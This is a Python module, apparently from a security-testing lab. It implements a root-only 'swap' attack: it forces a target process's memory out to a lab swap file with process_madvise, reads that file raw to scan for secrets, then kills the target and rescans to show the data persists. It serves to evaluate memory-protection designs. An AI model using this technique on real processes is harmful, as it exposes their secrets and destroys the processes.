"""`swap`: the target's pages are pushed out to a lab swap file, which is then read raw.

A swap file sized for the target is switched on with the highest priority (zswap off:
`_swapfile.lab_swap`), every region of the target is pushed out with process_madvise(2)
MADV_PAGEOUT through a pidfd (locked and secretmem regions refuse: that is the protection
the hardened designs rely on), and /proc/PID/pagemap says which virtual page sits at which
page of the file. The file is read with O_DIRECT and scanned, the target's pages at their
virtual addresses, the rest as "(swap, unmapped)".

Then the target is killed (SIGKILL) and, once it is gone, the file is read and scanned
again: the `after-exit` follow-up. Linux frees the slots of a dead process without
clearing them (only `swapon --discard` would ask the device to), so what was pushed out
stays on the device until the slot is reused. The attack kills its target: the lab gives
it a victim of its own.

Without process_madvise (Linux < 5.10, or no CAP_SYS_NICE), the fallback is cgroup v2
`memory.reclaim` on the target's own cgroup: a one-shot request, nothing to restore. Not
a temporary cgroup: moving a process between v2 cgroups moves none of its charged pages,
so reclaim in a new group would not touch them. The fallback reclaims from every process
in that cgroup, and from page cache first; it is not exercised on this host (its memory
controller is on cgroup v1).
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import os
import signal
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from ._base import BLOCKED, ERROR, SKIPPED, Attack, AttackOutcome
from ._crash_core import DEATH_TIMEOUT_S, _dead
from ._proc_mem import KERNEL_PAGES
from ._swapfile import (
    LabSwap,
    SwapCleanupError,
    SwapUnavailableError,
    lab_swap,
    swap_permitted,
    writeback_settled,
)
from .scan import Scanner
from .sources import PAGE, Region, read_regions
from .sources.swap import ZERO_DIGEST, SwapSource, swap_slots

_PIDFD_OPEN, _PROCESS_MADVISE, _MADV_PAGEOUT = 434, 440, 21
_CAP_SYS_NICE = 23
_MARGIN_BYTES = 16 << 20

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


class _IoVec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


@dataclass(slots=True)
class PushResult:
    method: str
    bytes_advised: int = 0
    refused: list[tuple[Region, str]] = field(default_factory=list)  # (region, errno name)
    errors: Counter[str] = field(default_factory=Counter)


def _status_kb(pid: int, key: str) -> int:
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith(key + ":"):
                return int(line.split()[1])
    return 0  # kernel threads and zombies have no Vm* lines


def _vmstat(*keys: str) -> list[int]:
    """System-wide counters from /proc/vmstat (0 for one this kernel does not have)."""
    values = dict(line.split() for line in Path("/proc/vmstat").read_text().splitlines())
    return [int(values.get(key, 0)) for key in keys]


def _has_capability(bit: int) -> bool:
    with open("/proc/self/status") as status:
        caps = next(line for line in status if line.startswith("CapEff:"))
    return bool(int(caps.split()[1], 16) >> bit & 1)


def process_madvise_missing() -> str | None:
    """None if process_madvise(MADV_PAGEOUT) on another process works here, else why."""
    if not _has_capability(_CAP_SYS_NICE):
        return "process_madvise on another process needs CAP_SYS_NICE"
    pidfd = _libc.syscall(_PIDFD_OPEN, os.getpid(), 0)
    if pidfd < 0:
        return f"no pidfd_open ({errno.errorcode.get(ctypes.get_errno(), '?')}; Linux >= 5.3)"
    try:
        # an empty vector checks that the call and the advice exist, and does nothing
        if _libc.syscall(_PROCESS_MADVISE, pidfd, None, 0, _MADV_PAGEOUT, 0) < 0:
            err = errno.errorcode.get(ctypes.get_errno(), "?")
            return f"no process_madvise with MADV_PAGEOUT ({err}; Linux >= 5.10)"
    finally:
        os.close(pidfd)
    return None


def cgroup_v2_reclaim_file(pid: int) -> Path | None:
    """The target's cgroup v2 `memory.reclaim`, if a v2 hierarchy holds the memory controller."""
    try:
        mounts = Path("/proc/self/mountinfo").read_text().splitlines()
        lines = Path(f"/proc/{pid}/cgroup").read_text().splitlines()
    except OSError:
        return None
    roots = [m.split(" - ")[0].split()[4] for m in mounts if " - cgroup2 " in m]
    relative = next((ln[3:] for ln in lines if ln.startswith("0::")), None)
    if relative is None:
        return None
    for root in roots:
        controllers = Path(root, "cgroup.controllers")
        reclaim = Path(root, relative.lstrip("/"), "memory.reclaim")
        try:
            if "memory" in controllers.read_text().split() and reclaim.exists():
                return reclaim
        except OSError:
            continue
    return None


def _push_madvise(pid: int, regions: list[Region]) -> PushResult:
    """One pass per CPU, run on that CPU. MADV_PAGEOUT cannot take a page that still sits in
    a CPU's per-CPU LRU batch (just faulted in there), and it drains only the batches of
    the CPU it runs on: a page the target had just written on the other core was seen to
    stay in RAM now and then."""
    result = PushResult("process_madvise MADV_PAGEOUT")
    pidfd = _libc.syscall(_PIDFD_OPEN, pid, 0)
    if pidfd < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err), f"pidfd_open({pid})")
    cpus = sorted(os.sched_getaffinity(0))
    try:
        for n, cpu in enumerate(cpus):
            os.sched_setaffinity(0, {cpu})
            _pageout_pass(pid, pidfd, regions, result if n == 0 else PushResult(""))
    finally:
        os.sched_setaffinity(0, cpus)
        os.close(pidfd)
    return result


def _pageout_pass(pid: int, pidfd: int, regions: list[Region], result: PushResult) -> None:
    for region in regions:
        if region.name in KERNEL_PAGES:
            continue  # [vvar] and [vsyscall] answer EINVAL/EFAULT to everyone
        iov = _IoVec(region.start, region.size)
        done = _libc.syscall(_PROCESS_MADVISE, pidfd, ctypes.byref(iov), 1, _MADV_PAGEOUT, 0)
        if done >= 0:
            result.bytes_advised += done
            continue
        err = ctypes.get_errno()
        if err in (errno.ESRCH, errno.EPERM):
            raise OSError(err, os.strerror(err), f"process_madvise({pid})")
        name = errno.errorcode.get(err, str(err))
        result.errors[name] += 1
        if err != errno.ENOMEM:  # ENOMEM: unmapped since smaps was read
            result.refused.append((region, name))


def _push_cgroup(pid: int, reclaim: Path, nbytes: int) -> PushResult:
    result = PushResult(f"cgroup v2 {reclaim}")
    try:
        reclaim.write_text(str(nbytes))
        result.bytes_advised = nbytes
    except OSError as exc:
        # EAGAIN: less than asked could be reclaimed; VmSwap says how much of it was ours
        result.errors[errno.errorcode.get(exc.errno or 0, "?")] += 1
    return result


class Swap(Attack):
    name = "swap"
    artefact = "swap-file"
    summary = (
        "pages pushed out to a lab swap file (process_madvise MADV_PAGEOUT); the file is "
        "read raw (O_DIRECT) and scanned, and again after the target is killed"
    )
    destructive = True

    @classmethod
    def supported(cls) -> str | None:
        if os.geteuid() != 0:
            return "needs root for swapon and pagemap swap offsets: run as root (sudo)"
        if not swap_permitted():
            return (
                "swapon is not permitted (EPERM: no CAP_SYS_ADMIN in the initial user "
                "namespace, e.g. a container): run on a host or VM as root"
            )
        missing = process_madvise_missing()
        if missing is not None and cgroup_v2_reclaim_file(os.getpid()) is None:
            return (
                f"cannot push another process's pages out: {missing}, and no cgroup v2 "
                "memory controller; run on Linux >= 5.10 as root with CAP_SYS_NICE, or boot "
                "with systemd.unified_cgroup_hierarchy=1"
            )
        return None

    def _run(
        self, pid: int, scanner: Scanner, workdir: Path | None, outcome: AttackOutcome
    ) -> None:
        if pid in (os.getpid(), os.getppid()):
            outcome.status, outcome.reason = ERROR, f"{pid} runs this attack, which kills it"
            return
        try:
            resident = _status_kb(pid, "VmRSS") + _status_kb(pid, "VmSwap")
        except FileNotFoundError:
            outcome.status, outcome.reason = ERROR, f"process {pid} does not exist"
            return
        try:
            with lab_swap(workdir, resident * 1024 * 5 // 4 + _MARGIN_BYTES) as swap:
                slots, live = self._live(pid, scanner, swap, outcome)
                if slots is None:
                    return
                started = time.perf_counter()
                after = AttackOutcome(self.name, outcome.attacker, self.artefact, pid, "ok")
                try:
                    self._after_exit(pid, scanner, swap.path, slots, live, after)
                finally:
                    after.duration_s = time.perf_counter() - started
                outcome.follow_ups.append(("after-exit", after))
        except SwapUnavailableError as exc:
            outcome.status, outcome.reason = SKIPPED, str(exc)
        except SwapCleanupError as exc:
            outcome.status = ERROR
            outcome.reason = "; ".join(filter(None, [outcome.reason, str(exc)]))

    def _live(
        self, pid: int, scanner: Scanner, swap: LabSwap, outcome: AttackOutcome
    ) -> tuple[dict[int, tuple[int, Region]] | None, dict[int, int]]:
        try:
            before_kb = _status_kb(pid, "VmSwap")
            regions, _ = read_regions(pid)
            counted = _vmstat("pswpout", "swpout_zero")
            missing = process_madvise_missing()
            if missing is None:
                push = _push_madvise(pid, regions)
            else:
                reclaim = cgroup_v2_reclaim_file(pid)
                if reclaim is None:
                    outcome.status = SKIPPED
                    outcome.reason = f"{missing}, and the target is in no cgroup v2 memory group"
                    return None, {}
                push = _push_cgroup(pid, reclaim, _status_kb(pid, "VmRSS") * 1024)
                push.method += f" ({missing})"
            settled = writeback_settled()
            now = _vmstat("pswpout", "swpout_zero")
            written, zero = (b - a for a, b in zip(counted, now, strict=True))
            after_kb = _status_kb(pid, "VmSwap")
            left_kb = _status_kb(pid, "RssAnon")
            regions, _ = read_regions(pid)  # again: smaps now says which regions hold swap
            slots, elsewhere = swap_slots(pid, regions, swap.swap_type)
        except (FileNotFoundError, ProcessLookupError):
            outcome.status, outcome.reason = ERROR, f"process {pid} exited during the attack"
            return None, {}
        except OSError as exc:
            if exc.errno == errno.ESRCH:
                outcome.status, outcome.reason = ERROR, f"process {pid} exited during the attack"
            else:
                outcome.status = BLOCKED
                outcome.reason = f"{errno.errorcode.get(exc.errno or 0, '?')} from {exc.filename}"
            return None, {}
        source = SwapSource(swap.path, slots)
        outcome.regions_total = len(source.regions())
        outcome.hits = scanner.scan(source)
        outcome.stats = source.stats
        outcome.findings = scanner.summarize(outcome.hits)
        pushed = max(0, after_kb - before_kb) // (PAGE // 1024)
        parts = [
            f"{push.method}: {pushed} pages pushed out (VmSwap {before_kb} -> {after_kb} kB, "
            f"RssAnon left in RAM {left_kb} kB; system-wide {written} pages written to swap, "
            f"{zero} all-zero ones only flagged)",
            f"{len(slots)} of its pages located in the file by pagemap"
            + (f", {elsewhere} in other swap areas" if elsewhere else ""),
            f"{source.stats.bytes_read} bytes of swap read with O_DIRECT",
            swap.describe(),
        ]
        if not settled:
            parts.append("writeback had not settled after 10 s: some slots may read stale")
        refused = [(r, e) for r, e in push.refused if r.name not in KERNEL_PAGES]
        if refused:
            names = ", ".join(sorted({f"{r.describe()} ({e})" for r, e in refused})[:3])
            parts.append(f"{len(refused)} region(s) refused to be pushed out: {names}")
            outcome.status = BLOCKED  # the target keeps those pages out of swap
        if not slots and not pushed:
            outcome.status = BLOCKED
            parts.append("no page of the target reached the swap file")
        outcome.reason = "; ".join(parts)
        return slots, source.digests

    def _after_exit(
        self,
        pid: int,
        scanner: Scanner,
        path: Path,
        slots: dict[int, tuple[int, Region]],
        live: dict[int, int],
        outcome: AttackOutcome,
    ) -> None:
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)
        deadline = time.monotonic() + DEATH_TIMEOUT_S
        while not _dead(pid) and time.monotonic() < deadline:
            time.sleep(0.01)
        if not _dead(pid):
            outcome.status = ERROR
            outcome.reason = f"process {pid} still alive {DEATH_TIMEOUT_S} s after SIGKILL"
            return
        writeback_settled()
        source = SwapSource(path, slots)  # hits attributed to what the slots held in life
        outcome.regions_total = len(source.regions())
        outcome.hits = scanner.scan(source)
        outcome.stats = source.stats
        outcome.findings = scanner.summarize(outcome.hits)
        data = [s for s, d in live.items() if d != ZERO_DIGEST]
        kept = sum(1 for s in data if source.digests.get(s) == live[s])
        cleared = sum(1 for s in data if source.digests.get(s) == ZERO_DIGEST)
        outcome.reason = (
            f"target killed (SIGKILL) and gone; the whole swap file read again: "
            f"{source.stats.bytes_read} bytes; of the {len(data)} slots that held its non-zero "
            f"pages, {kept} still hold the same bytes, {cleared} read as zeros, "
            f"{len(data) - kept - cleared} changed (the lab swap is on without discard: "
            f"nothing asks for freed slots to be cleared); hits are attributed to what each "
            f"slot held in life"
        )
